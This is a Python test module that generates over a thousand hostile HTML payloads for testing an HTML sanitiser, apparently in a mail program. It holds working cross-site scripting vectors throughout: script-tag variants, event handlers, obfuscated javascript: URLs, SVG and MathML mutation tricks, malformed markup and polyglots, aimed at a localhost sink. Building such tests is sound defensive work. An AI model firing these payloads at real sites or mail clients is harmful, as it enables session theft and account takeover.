"""Hostile HTML: more than a thousand distinct payloads, made of families of tricks and ways to write them.

Every payload tries to run `JS`, which calls `alert`, or to make the reader's browser ask `SINK` for something.
The families follow what has been published about mail programs and sanitisers (OWASP, the advisories for Roundcube,
Zimbra, MDaemon, ammonia and DOMPurify); the texts are our own.
"""

from __future__ import annotations

import html
import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

from tests.payloads_quiet import JS, fetching, overlays

SINK = "http://127.0.0.1:{port}"


@dataclass(frozen=True, slots=True)
class Payload:
    """One payload and the family that it is of."""

    family: str
    html: str


def payloads(port: int) -> list[Payload]:
    """All payloads, each once, aimed at a sink that listens on a port of this machine."""
    sink = SINK.format(port=port)
    seen: dict[str, Payload] = {}
    for family, make in FAMILIES.items():
        for text in make(sink):
            seen.setdefault(text, Payload(family, text))
    return list(seen.values())


def scripts(sink: str) -> Iterator[str]:
    """Script elements, written in every way that a parser takes for one."""
    bodies = (JS, f"//{JS}\n{JS}", f"<!--\n{JS}//-->", f"/*<![CDATA[*/{JS}/*]]>*/", "window['al'+'ert'](1)")
    opens = ("<script>", "<SCRIPT>", "<script >", "<script\n>", "<script/x>", "<script x=y>", "<script\t/>")
    types = ("text/javascript", "module", "application/ecmascript", "text/jscript", "")
    for opening, body in itertools.product(opens, bodies):
        yield f"{opening}{body}</script>"
    for kind, body in itertools.product(types, bodies):
        yield f'<script type="{kind}">{body}</script >'
    for source in (
        f"{sink}/s.js",
        f"//127.0.0.1:{sink.rpartition(':')[2]}/s.js",
        f"data:text/javascript,{JS}",
    ):
        yield f"<script src={source}></script>"
        yield f'<script async defer src="{source}">'
    yield f"<scr<script>ipt>{JS}</scr</script>ipt>"
    yield f"<<script>{JS}//<</script>"
    yield f"<script>{JS}"
    yield f"</p><script>{JS}</script"
    yield f"<script\x0c>{JS}</script\x0c>"


EVENTS = {
    "img": ("src=x", ("error",)),
    "image": ("src=x", ("error",)),
    "body": ("", ("load", "pageshow", "focus", "resize", "scroll", "hashchange")),
    "svg": ("", ("load",)),
    "video": ("src=x", ("error", "loadstart")),
    "audio": ("src=x", ("error", "loadstart")),
    "input": ("autofocus", ("focus",)),
    "select": ("autofocus", ("focus",)),
    "textarea": ("autofocus", ("focus",)),
    "button": ("autofocus", ("focus",)),
    "details": ("open", ("toggle",)),
    "iframe": ("srcdoc=x", ("load",)),
    "object": ("data=x", ("error",)),
    "embed": ("src=x", ("load",)),
    "link": ("rel=stylesheet href=x", ("error",)),
    "style": ("", ("load",)),
    "marquee": ("loop=1 width=0", ("start", "finish", "bounce")),
    "div": ("tabindex=1", ("focus", "mouseover", "click", "animationstart", "beforeinput", "wheel")),
    "p": ("contenteditable", ("paste", "copy", "input", "drag", "drop")),
    "a": ("href=#x tabindex=1", ("focus", "pointerover", "auxclick")),
    "table": ("", ("mouseenter", "pointerenter", "contextmenu")),
    "font": ("", ("transitionend", "mousemove")),
    "blockquote": ("", ("touchstart", "selectstart")),
}


def handlers(sink: str) -> Iterator[str]:
    """Event handlers on everything, with the spaces, slashes and quotes that parsers forgive."""
    ways = (
        "<{tag} {need} on{event}={js}>",
        "<{tag}/{need}/on{event}='{js}'>",
        '<{tag}\n{need}\nOn{event}\n=\n"{js}">x</{tag}>',
        "<{tag} {need} on{event}={entity}>",
        '<{tag} title=">" {need} on{event}="{js}//',
        "<{tag} {need} on{event}\t=`{js}` on{event}={js}>",
        "<{tag} {need} x='`'on{event}={js}>",
    )
    for tag, (need, events) in EVENTS.items():
        for event, way in itertools.product(events, ways):
            yield way.format(tag=tag, need=need, event=event, js=JS, entity=encoded(JS))


def encoded(text: str) -> str:
    """Every character as a reference, in three styles by turns."""
    styles = ("&#{};", "&#x{:x};", "&#0000{:04d}")
    return "".join(
        style.format(ord(char)) for char, style in zip(text, itertools.cycle(styles), strict=False)
    )


def urls(sink: str) -> Iterator[str]:
    """Addresses that run, in every attribute that takes one."""
    forms = (
        f"javascript:{JS}",
        f"JaVaScRiPt:{JS}",
        f" \x01javascript:{JS}",
        f"java\tscript:{JS}",
        f"java\nscript:{JS}",
        f"java&#x0A;script&colon;{JS}",
        f"&#106avascript:{JS}",
        f"javascript&#58;{JS}",
        f"javascript://%0a{JS}",
        f"javascript:void({JS})",
        f"vbscript:{JS}",
        f"view-source:javascript:{JS}",
        f"data:text/html,<script>{JS}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
        f"blob:{sink}/x",
        f"filesystem:{sink}/x",
        f"jar:{sink}/x!/y",
        f"feed:javascript:{JS}",
    )
    places = (
        '<a href="{}">clic</a>',
        "<a href='{}' target=_self>clic</a>",
        '<img src="{}">',
        '<iframe src="{}"></iframe>',
        '<embed src="{}">',
        '<object data="{}"></object>',
        '<form action="{}"><button>x</button></form>',
        '<svg><a xlink:href="{}"><text>x</text></a></svg>',
        '<math href="{}">x</math>',
        '<meta http-equiv=refresh content="0;url={}">',
        '<base href="{}">',
    )
    for form, place in itertools.product(forms, places):
        yield place.format(form.replace('"', "&quot;"))


def drawings(sink: str) -> Iterator[str]:
    """SVG and MathML: scripts, animation of addresses, foreign objects, mutation through integration points."""
    inner = (
        f"<script>{JS}</script>",
        f"<script href=data:,{JS} />",
        f"<animate onbegin={JS} attributeName=x dur=1s>",
        f"<set attributeName=onmouseover to={JS} onbegin={JS}>",
        f"<a><animate attributeName=href values=javascript:{JS} /><text>x</text></a>",
        f'<animate attributeName="xlink:href" begin=0 from="javascript:{JS}" to="&" />',
        f"<foreignObject><body onload={JS}><img src=x onerror={JS}></foreignObject>",
        f"<style><img src=x onerror={JS}></style>",
        f"<style>*{{background:url({sink}/svg)}}</style>",
        f"<title><a id='</title><img src=x onerror={JS}>'>",
        f"<desc><img src=x onerror={JS}></desc>",
        f"<image href={sink}/i.png width=9 height=9 />",
        f"<use href={sink}/u.svg#x />",
        f"<feImage href={sink}/f.png />",
        f"<p><style><!--</style><img title='--><img src=x onerror={JS}>'>",
        f"</p><style><a id='</style><img src=x onerror={JS}>'>",
        f"<![CDATA[><img src=x onerror={JS}>]]>",
        f"<discard onbegin={JS}>",
        f"<text onload={JS}>x</text><rect onclick={JS} width=100% height=100%>",
    )
    outer = ("<svg>{}</svg>", "<svg onload=void(0)>{}", "<math>{}</math>", "<math><mtext>{}", "<svg/><svg>{}")
    for body, around in itertools.product(inner, outer):
        yield around.format(body)
    for glyph in ("mglyph", "malignmark"):
        for tag in ("mtext", "mi", "mo", "mn", "ms"):
            yield f"<math><{tag}><table><{glyph}><style><math><img src=x onerror={JS}></style>"
            yield f"<form><math><{tag}></form><form><{glyph}><style></math><img src onerror={JS}>"
    for coding in ("text/html", "application/xhtml+xml", "TEXT/HTML"):
        yield f"<math><annotation-xml encoding='{coding}'><style><img src=x onerror={JS}></style>"
        yield f"<math><annotation-xml encoding='{coding}'><svg><script>{JS}</script>"


def mutations(sink: str) -> Iterator[str]:
    """What changes its meaning when it is parsed a second time, or in another context."""
    wrappers = (
        *("noscript", "style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "plaintext"),
        *("template", "select", "option", "listing", "frameset", "caption", "colgroup", "math", "svg"),
    )
    shapes = (
        "<{t}><p title='</{t}><img src=x onerror={js}>'></{t}>",
        '<{t}><a title="</{t}><script>{js}</script>">x',
        "<{t}><!--</{t}><img src=x onerror={js}>--></{t}>",
        "<{t}><{t}></{t}><img src=x onerror={js}></{t}>",
        "<{t}>&lt;/{t}&gt;<img src=x onerror={js}>",
        "<svg><{t}><img src=x onerror={js}></{t}></svg>",
        "<table><{t}><td><img src=x onerror={js}></{t}>",
    )
    for tag, shape in itertools.product(wrappers, shapes):
        yield shape.format(t=tag, js=JS)
    for depth in (20, 60, 150):
        yield "<div>" * depth + f"<img src=x onerror={JS}>"
        yield "<b><p>" * depth + f"<svg onload={JS}>"


def broken(sink: str) -> Iterator[str]:
    """Half-open tags, comments that end early, conditional comments, NUL and other bytes that parsers drop."""
    bang = f"<img src=x onerror={JS}>"
    yield from (
        f"<!-->{bang}-->",
        f"<!--->{bang}-->",
        f"<!-- --!>{bang}-->",
        f"<!--[if gte mso 9]>{bang}<![endif]-->",
        f"<!--[if !mso]><!-->{bang}<!--<![endif]-->",
        f"<![if true]>{bang}<![endif]>",
        f"<!doctype html [<!ENTITY x '{bang}'>]>&x;",
        f"<?xml version='1.0'?>{bang}",
        f"<?php echo 1 ?>{bang}",
        f"<%{bang}%>",
        f"<!{bang}",
        f"</{bang}",
        f"<{bang}",
        f"<a{bang}",
        f"<a href='{bang}",
        f'<a href="x"{bang}',
        f'<a title="{bang}',
        f"<table background='{bang}",
        f"<img src='x' {bang[5:]}",
        f'<img """><script>{JS}</script>">',
        f"<img src=x\x00 onerror={JS}>",
        f"<im\x00g src=x onerror={JS}>",
        f"<\x00script>{JS}</script>",
        f"<img src=x onerror\x0b={JS}>",
        f"<img src=x onerror\xa0={JS}>",
        f"<img/src='x'/onerror={JS}>",
        f"<img src=x:x onerror={JS}//",
        f"<IMG SRC=x ONERROR={JS}",
        f"\xbcscript\xbe{JS}\xbc/script\xbe",
        f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
        f"＜script＞{JS}＜/script＞",
        f"<ſcript>{JS}</ſcript>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script>",
        f"<html><head><body><frameset onload={JS}>",
        f"%3Cimg src=x onerror={JS}%3E",
        html.escape(bang),
        html.escape(html.escape(bang)),
        quote(bang),
    )
    for quote_mark, end in itertools.product(("'", '"', "`"), (">", "/>", " >", "\t>")):
        yield f"{quote_mark}{end}{bang}"
        yield f"{quote_mark} autofocus onfocus={JS} x={quote_mark}{end}"
        yield f"</title>{quote_mark}{end}{bang}"
        yield f"</textarea>{quote_mark}{end}<svg onload={JS}>"
    for closing in ("title", "textarea", "script", "style", "iframe", "noscript", "xmp", "select", "a", "h1"):
        yield f"</{closing}>{bang}"
        yield f"</{closing} x>{bang}<{closing}>"


def polyglots(sink: str) -> Iterator[str]:
    """Texts that end whatever context they stand in, and then run."""
    endings = (
        *("-->", "*/", "]]>", "'\">", "`}}", "%0d%0a", '\\"-', "</script>", "'-{}-'", '"-{}-"'),
        *("${{{}}}", "javascript:/*", ";{};//", "\\u003c", "&lt;/"),
    )
    tails = (
        f"<svg/onload={JS}>",
        f"<img src=x onerror={JS}//",
        f"<script>{JS}</script>",
        f"<iframe srcdoc='<script>{JS}</script>'>",
        f"<iframe srcdoc='&lt;img src={sink}/srcdoc&gt;'></iframe>",
        f"<details open ontoggle={JS}>",
        f"<a href=javascript:{JS}>x",
    )
    for ending, tail in itertools.product(endings, tails):
        yield ending.replace("{}", JS) + tail
    for first, second in itertools.permutations(endings[:6], 2):
        yield f"{first}{second}<img src=x onerror={JS}>"


FAMILIES = {
    "script": scripts,
    "handler": handlers,
    "address": urls,
    "drawing": drawings,
    "mutation": mutations,
    "broken": broken,
    "fetching": fetching,
    "overlay": overlays,
    "polyglot": polyglots,
}
